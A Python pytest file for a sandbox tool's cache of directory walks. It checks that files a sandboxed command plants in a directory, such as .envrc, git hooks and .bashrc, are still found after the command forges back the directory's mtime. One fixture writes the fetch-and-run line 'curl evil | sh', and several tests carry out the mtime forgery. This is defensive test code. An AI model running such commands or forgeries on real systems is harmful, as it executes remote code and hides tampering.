"""The start walks kept between runs (``safebox.builder.walkcache``, issue 24 item 6).

A start in an unchanged work tree replays what ripgrep and find printed last
time instead of walking it again. The tree is the sandboxed command's to
write, so these tests plant protected files as a command can: new entries in
a directory whose mtime is then put back with ``os.utime`` (what a command can
forge; the ctime it cannot). Every plant is found by the next start; the
controls show the kept walk is replayed when nothing changed, and that the
mtime really was put back.

Real ripgrep, find and filesystem throughout; the in-process tests set
``SLACK_NS`` to 0 (with a sleep of a few clock ticks) instead of waiting
two seconds for each tree to age, and the end-to-end one waits.
"""

from __future__ import annotations

import os
import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from safebox.builder import dirkeys, walkcache
from safebox.builder import prescan as _prescan
from safebox.policy import defaults
from sbx import FakeHome

RG, FIND = shutil.which("rg"), shutil.which("find")
DEPTH = defaults.DEFAULT_SEARCH_DEPTH


REPLAYED, WALKED = "replayed", "walked"


@pytest.fixture(params=["on the helper", "in Python"])
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
         ) -> Iterator[tuple[Path, str]]:
    """(a work tree older than the slack, the state dir bound for it). Each
    test runs twice: with the directories' check on the helper's workers
    (``dirkeys``, which a tree this small would not use) and in Python."""
    if request.param == "on the helper":
        assert dirkeys.helper_path() is not None, "the helper is not installed: run `python3 build.py setup`"
        monkeypatch.setattr(dirkeys, "MIN_HELPED", 1)
    else:
        monkeypatch.setattr(dirkeys, "helper_path", lambda: None)
    root = tmp_path / "work"
    for d in ("a/b/c", "a/d", "e", ".git/hooks", ".git/objects", ".git/refs"):
        (root / d).mkdir(parents=True)
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (root / "a" / "b" / "c" / "f.txt").write_text("x\n")
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    monkeypatch.setattr(walkcache, "SLACK_NS", 0)
    monkeypatch.setattr(walkcache, "_bound", str(state))
    time.sleep(0.05)  # a few ticks of the file clock: the tree is older than the walks
    yield root, str(state)


def _walk(root: Path) -> tuple[str, bytes, bytes]:
    """(the kind of walk: replayed or walked, ripgrep's output, find's)."""
    assert RG and FIND, "ripgrep and find are needed"
    rg, find = _prescan.start_walks(RG, FIND, str(root), DEPTH)
    rc1, out1, err1 = rg.collect()
    rc2, out2, err2 = find.collect()
    assert (rc1 in (0, 1), rc2, err1, err2) == (True, 0, b"", b"")
    assert rg.replayed == find.replayed
    return REPLAYED if rg.replayed else WALKED, out1, out2


def _fresh(root: Path) -> tuple[bytes, bytes]:
    """What the walks print now, run for real (the truth to compare with)."""
    assert RG and FIND
    rg = _prescan.start_rg(RG, str(root), DEPTH)
    find = _prescan.start_find(FIND, str(root))
    return rg.collect()[1], find.collect()[1]


def _records(out: bytes) -> set[bytes]:
    return {r for r in out.replace(b"\n", b"\0").split(b"\0") if r}


def test_an_unchanged_tree_is_replayed_with_what_a_walk_would_print(tree: tuple[Path, str]) -> None:
    root, _ = tree
    first = _walk(root)
    again = _walk(root)
    assert (first[0], again[0]) == (WALKED, REPLAYED)
    assert (_records(again[1]), _records(again[2])) == tuple(map(_records, _fresh(root)))


def _plant_envrc(d: Path) -> bytes:
    (d / ".envrc").write_text("curl evil | sh\n")
    return os.fsencode(d / ".envrc") + b"//e"


def _plant_hook(d: Path) -> bytes:
    (d / ".git" / "hooks").mkdir(parents=True)
    (d / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    return os.fsencode(d / ".git" / "hooks" / "pre-commit")


def _plant_link(d: Path) -> bytes:
    (d / ".bashrc").symlink_to("/tmp/elsewhere")
    return os.fsencode(d / ".bashrc") + b"//l"


@pytest.mark.parametrize("plant", [_plant_envrc, _plant_hook, _plant_link])
def test_a_file_planted_under_a_put_back_mtime_is_found_by_the_next_start(tree: tuple[Path, str],
                                                                           plant: object) -> None:
    root, _ = tree
    assert _walk(root)[0] is WALKED
    d = root / "a" / "b" / "c"
    before = os.stat(d)
    planted = plant(d)  # type: ignore[operator]
    os.utime(d, ns=(before.st_atime_ns, before.st_mtime_ns))  # the forgery a sandboxed command can make
    after = os.stat(d)
    assert after.st_mtime_ns == before.st_mtime_ns  # control: the mtime says nothing changed
    assert after.st_ctime_ns != before.st_ctime_ns
    kind, rg_out, find_out = _walk(root)
    assert kind is WALKED
    found = {r.split(b"//")[0] + (b"//" + r.split(b"//")[1][:1] if b"//" in r else b"")
             for r in _records(rg_out) | _records(find_out)}
    assert planted in found


def test_a_new_directory_deep_in_the_tree_is_walked(tree: tuple[Path, str]) -> None:
    root, _ = tree
    _walk(root)
    (root / "a" / "d" / "new" / ".vscode").mkdir(parents=True)
    kind, _, find_out = _walk(root)
    assert kind is WALKED
    assert os.fsencode(root / "a" / "d" / "new" / ".vscode") + b"//d" in _records(find_out)


def test_a_tree_changed_within_the_slack_is_not_kept(tree: tuple[Path, str], monkeypatch: pytest.MonkeyPatch) -> None:
    root, _ = tree
    monkeypatch.setattr(walkcache, "SLACK_NS", 2_000_000_000)
    (root / "e" / "x").write_text("now\n")  # e changed a moment ago
    assert [_walk(root)[0], _walk(root)[0]] == [WALKED, WALKED]


def test_a_tree_on_a_filesystem_not_known_to_keep_directory_times_is_not_kept(
        tree: tuple[Path, str], monkeypatch: pytest.MonkeyPatch) -> None:
    root, _ = tree
    monkeypatch.setattr(walkcache, "_fs_types", lambda: {os.stat(root).st_dev: "fuse.sshfs"})
    assert [_walk(root)[0], _walk(root)[0]] == [WALKED, WALKED]
    monkeypatch.undo()  # control: the same tree on its real filesystem is kept
    monkeypatch.setattr(walkcache, "SLACK_NS", 0)
    monkeypatch.setattr(walkcache, "_bound", tree[1])
    assert [_walk(root)[0], _walk(root)[0]] == [WALKED, REPLAYED]


def test_a_kept_walk_is_replayed_only_for_the_same_walks_and_uid(tree: tuple[Path, str]) -> None:
    root, state = tree
    _walk(root)
    assert RG and FIND
    argvs = (_prescan.rg_argv(RG, str(root), DEPTH), _prescan.find_argv(FIND, str(root)))
    kept = walkcache.lookup(state, str(root), DEPTH, argvs)
    assert kept is not None and kept[2].result()  # control
    other = (_prescan.rg_argv(RG, str(root), DEPTH + 1), argvs[1])
    assert walkcache.lookup(state, str(root), DEPTH, other) is None
    assert walkcache.lookup(state, str(root / "a"), DEPTH, argvs) is None


def test_a_replay_read_from_another_state_dir_than_the_sessions_walks_for_real(
        tree: tuple[Path, str]) -> None:
    root, state = tree
    _walk(root)
    rg, find = _prescan.start_walks(RG or "rg", FIND or "find", str(root), DEPTH)
    assert type(rg) is walkcache.Replayed
    (root / "a" / "d" / ".envrc").write_text("x\n")  # what the kept walk lacks
    walkcache.bind(state + "-other")  # the session's state dir is another
    envrcs = {r.partition(b"//e")[0] for r in _records(find.collect()[1]) if b"//e" in r}
    assert os.fsencode(root / "a" / "d" / ".envrc") in envrcs
    rg.collect()


def test_the_launchers_state_dir_is_the_sessions(monkeypatch: pytest.MonkeyPatch) -> None:
    from safebox.policy.load import state_dir
    from safebox.run.host import home

    for env in ({"HOME": "/h/u"}, {"HOME": "/h/u/", "XDG_CACHE_HOME": "/c"}, {"HOME": "rel"}, {}):
        for k in ("HOME", "XDG_CACHE_HOME"):
            monkeypatch.delenv(k, raising=False)
            if k in env:
                monkeypatch.setenv(k, env[k])
        assert walkcache.state_dir(os.environ) == state_dir(home(os.environ)), env


def test_a_protected_file_a_sandboxed_run_planted_under_a_forged_mtime_is_read_only_in_the_next_run(
        fresh_home: FakeHome) -> None:
    """End to end: the cache kept by a real run, a plant by a real sandboxed
    command that puts the directory's mtime back, and the next run."""
    work = fresh_home.work
    (work / "sub").mkdir()
    time.sleep(2.1)  # older than the slack: the first run keeps its walks
    assert fresh_home.run(["true"]).returncode == 0
    kept = next((fresh_home.root / ".cache" / "safebox" / "walks").iterdir())
    ident = os.stat(kept).st_ino
    assert fresh_home.run(["true"]).returncode == 0
    assert os.stat(kept).st_ino == ident  # control: the unchanged tree was replayed, not walked and kept anew
    before = os.stat(work / "sub")
    plant = ("import os; st = os.stat('sub'); open('sub/.bashrc', 'w').write('# mine\\n'); "
             "os.utime('sub', ns=(st.st_atime_ns, st.st_mtime_ns))")
    r = fresh_home.run(["python3", "-c", plant])
    assert r.returncode == 0, r.stderr
    assert os.stat(work / "sub").st_mtime_ns == before.st_mtime_ns  # the forgery took
    r = fresh_home.run(["sh", "-c", "echo ok > sub/notes; echo evil >> sub/.bashrc"])
    assert "sub/.bashrc: Read-only file system" in r.stderr, r.stderr
    assert (work / "sub" / ".bashrc").read_text() == "# mine\n"
    assert (work / "sub" / "notes").read_text() == "ok\n"  # control: the directory itself is writable


def test_the_kept_walks_are_bounded_newest_first(tree: tuple[Path, str], monkeypatch: pytest.MonkeyPatch) -> None:
    root, state = tree
    monkeypatch.setattr(walkcache, "MAX_FILES", 2)
    walks = Path(state) / "walks"
    new: list[set[str]] = []
    for sub in ("a", "a/b", "e"):
        before = set(os.listdir(walks)) if walks.exists() else set()
        _walk(root / sub)
        new.append(set(os.listdir(walks)) - before)
        time.sleep(0.01)  # distinct mtimes
    assert all(len(n) == 1 for n in new)  # control: each root was kept
    assert set(os.listdir(walks)) == new[1] | new[2]  # the oldest went
